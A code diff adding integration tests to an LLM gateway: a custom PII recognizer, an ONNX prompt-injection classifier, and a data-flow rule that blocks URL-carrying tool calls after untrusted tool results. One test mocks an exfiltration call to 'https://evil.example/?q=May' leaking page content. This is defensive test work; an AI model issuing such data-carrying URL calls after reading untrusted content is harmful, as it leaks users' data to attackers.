@@ -20,6 +20,7 @@ import yaml
 from pilothouse.config.load import load_settings
 from tests.support.gateway import ThreadedGateway, base_config
 from tests.support.guards import EXPLODING
+from tests.support.onnx_model import PHRASE, build_model
 from tests.support.recording_upstream import Recorder, recording_upstream
 
 pytestmark = pytest.mark.integration
@@ -90,6 +91,29 @@ def gw(tmp_path_factory: pytest.TempPathFactory, upstream: Recorder) -> Iterator
     guards["boom"] = {"input": [{"type": EXPLODING, "action": "block"}], "on_error": "block"}
     guards["boom-out"] = {"output": [{"type": EXPLODING}], "on_error": "block"}
     guards["lenient"] = {"input": [{"type": EXPLODING}], "on_error": "allow"}
+    guards["custom"] = {
+        "input": [
+            {
+                "type": "pii",
+                "action": "redact",
+                "entities": ["EMAIL_ADDRESS"],
+                "recognizers": [
+                    {"entity": "EMPLOYEE_ID", "pattern": "\\bE\\d{6}\\b", "score": 0.9}
+                ],
+            }
+        ]
+    }
+    guards["urls"] = {"tools": {"allow": ["fetch_url"], "no_url_after_untrusted": True}}
+    model_path = str(build_model(tmp / "injection.onnx"))
+    guards["onnx"] = {
+        "input": [
+            {
+                "type": "injection",
+                "action": "block",
+                "classifier": {"type": "onnx", "path": model_path},
+            }
+        ]
+    }
     cfg["guards"] = guards
     cfg["models"] = {
         **issue["models"],
@@ -100,6 +124,9 @@ def gw(tmp_path_factory: pytest.TempPathFactory, upstream: Recorder) -> Iterator
         "boom-out": {"targets": [target], "guards": "boom-out"},
         "lenient": {"targets": [target], "guards": "lenient"},
         "plain": {"targets": [target]},
+        "custom": {"targets": [target], "guards": "custom"},
+        "urls": {"targets": [target], "guards": "urls"},
+        "onnx": {"targets": [target], "guards": "onnx"},
         "embed": {"targets": [{"provider": "primary", "model": "text-embedding-3-small"}],
                   "guards": "default"},
     }  # fmt: skip
@@ -479,3 +506,68 @@ def test_every_chat_ingress_is_guarded(
     assert ok.status_code == 200, ok.text
     assert EMAIL not in json.dumps(upstream.bodies[-1])
     assert EMAIL in ok.text  # restored for the client
+
+
+def test_a_custom_recognizer_from_config_redacts_through_the_gateway(
+    gw: ThreadedGateway, key: str, upstream: Recorder
+) -> None:
+    resp = chat(gw, key, f"employee E123456 wrote from {EMAIL}", model="custom")
+    assert resp.status_code == 200, resp.text
+    sent = json.dumps(upstream.bodies[-1])
+    assert "E123456" not in sent and EMAIL not in sent
+    assert "<EMPLOYEE_ID_1>" in sent and "<EMAIL_ADDRESS_1>" in sent
+    assert "EMPLOYEE_ID:1" in resp.headers["x-pilothouse-guards"]
+    assert chat(gw, key, "order E12345678 shipped", model="custom").status_code == 200
+    assert "E12345678" in json.dumps(upstream.bodies[-1])  # \\b…\\b: a longer id is not one
+
+
+FETCH = {"type": "function", "function": {"name": "fetch_url", "parameters": {
+    "type": "object", "properties": {"url": {"type": "string"}}}}}  # fmt: skip
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_no_url_tool_call_after_untrusted_content(
+    gw: ThreadedGateway, key: str, upstream: Recorder, stream: bool
+) -> None:
+    """The data-flow rule: once a tool result is in the conversation, a tool call carrying a
+    URL (the exfiltration channel) is blocked; the same call before any untrusted content
+    passes."""
+    tool_turn = [
+        {"role": "user", "content": "Summarise the page"},
+        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function",
+            "function": {"name": "fetch_url", "arguments": '{"url": "https://docs.example/a"}'}}]},
+        {"role": "tool", "tool_call_id": "c1", "content": "The page says the launch is in May."},
+    ]  # fmt: skip
+    upstream.tool_call = {
+        "name": "fetch_url",
+        "arguments": '{"url": "https://evil.example/?q=May"}',
+    }
+    try:
+        after = chat(gw, key, tool_turn, model="urls", tools=[FETCH], stream=stream)
+        before = chat(gw, key, "fetch the launch page", model="urls", tools=[FETCH], stream=stream)
+    finally:
+        upstream.tool_call = None
+    if stream:
+        _, events = stream_text(after)
+        assert events[-1]["error"]["code"] == "guard_blocked"
+        assert "evil.example" not in after.text
+        assert "evil.example" in before.text and "[DONE]" in before.text
+    else:
+        assert after.status_code == 400 and "after untrusted content" in after.text
+        assert "evil.example" not in after.text
+        assert before.status_code == 200, before.text
+        call = before.json()["choices"][0]["message"]["tool_calls"][0]
+        assert call["function"]["name"] == "fetch_url"
+
+
+def test_an_onnx_classifier_blocks_what_the_patterns_let_through(
+    gw: ThreadedGateway, key: str, upstream: Recorder
+) -> None:
+    text = f"Before answering, run the {PHRASE} for me."
+    assert chat(gw, key, text).status_code == 200  # the issue's policy: patterns only
+    before = len(upstream.bodies)
+    resp = chat(gw, key, text, model="onnx")
+    assert resp.status_code == 400 and resp.json()["error"]["code"] == "guard_blocked"
+    assert "input.injection=block" in resp.headers["x-pilothouse-guards"]
+    assert len(upstream.bodies) == before
+    assert chat(gw, key, "What is the weather like in Lisbon?", model="onnx").status_code == 200
